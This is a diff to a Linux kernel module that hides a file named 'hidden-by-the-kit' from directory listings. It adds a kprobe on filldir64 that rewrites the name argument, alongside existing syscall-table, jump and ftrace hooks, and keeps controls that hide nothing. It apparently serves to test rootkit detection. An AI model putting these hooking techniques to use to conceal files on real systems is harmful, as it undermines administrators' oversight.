@@ -4,14 +4,16 @@
  * "hidden-by-the-kit" from getdents64(2), and puts all back when it is unloaded.
  *
  * way=table: by the table of system calls, where the kernel still uses that; dispatch: by the function that newer
- * kernels have in its place; jump: by a jump at the begin of the system call; ftrace: by the function tracer. way=gate
- * hides nothing: an exception that no processor raises here leads to it.
+ * kernels have in its place; jump: by a jump at the begin of the system call; ftrace: by the function tracer; probe: by a
+ * kprobe at what takes a name. Two hide nothing: return, a kretprobe there, and gate, by which an exception leads here
+ * that no processor raises.
  */
 #include <asm/desc.h>
 #include <asm/unistd.h>
 #include <linux/delay.h>
 #include <linux/dirent.h>
 #include <linux/ftrace.h>
+#include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/slab.h>
 #include <linux/stop_machine.h>
@@ -101,6 +103,24 @@ static struct ftrace_ops tracer = {
 	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
 };
 
+/* bool filldir64(struct dir_context *, const char *name, int length, loff_t, u64, unsigned int) */
+static int on_name(struct kprobe *probe, struct pt_regs *regs)
+{
+	if (regs->dx == strlen(HIDDEN) && !memcmp((char *)regs->si, HIDDEN, regs->dx)) {
+		regs->si = (unsigned long)".";
+		regs->dx = 1;
+	}
+	return 0;
+}
+
+static int on_return(struct kretprobe_instance *instance, struct pt_regs *regs)
+{
+	return 0;
+}
+
+static struct kprobe names = { .symbol_name = "filldir64", .pre_handler = on_name };
+static struct kretprobe returns = { .kp.symbol_name = "filldir64", .handler = on_return };
+
 static int by_table(u8 *call)
 {
 	void **table = found("sys_call_table");
@@ -165,6 +185,10 @@ static int __init hooker_init(void)
 		return by_dispatch(call);
 	if (!strcmp(way, "ftrace"))
 		return by_ftrace();
+	if (!strcmp(way, "probe"))
+		return register_kprobe(&names);
+	if (!strcmp(way, "return"))
+		return register_kretprobe(&returns);
 	if (!strcmp(way, "gate"))
 		return by_gate();
 	if (strcmp(way, "jump"))
@@ -177,6 +201,10 @@ static void __exit hooker_exit(void)
 {
 	if (changed)
 		stop_machine(write_over, before, NULL);
+	else if (!strcmp(way, "probe"))
+		unregister_kprobe(&names);
+	else if (!strcmp(way, "return"))
+		unregister_kretprobe(&returns);
 	else
 		unregister_ftrace_function(&tracer);
 	msleep(200); /* whoever is in hooked() still */
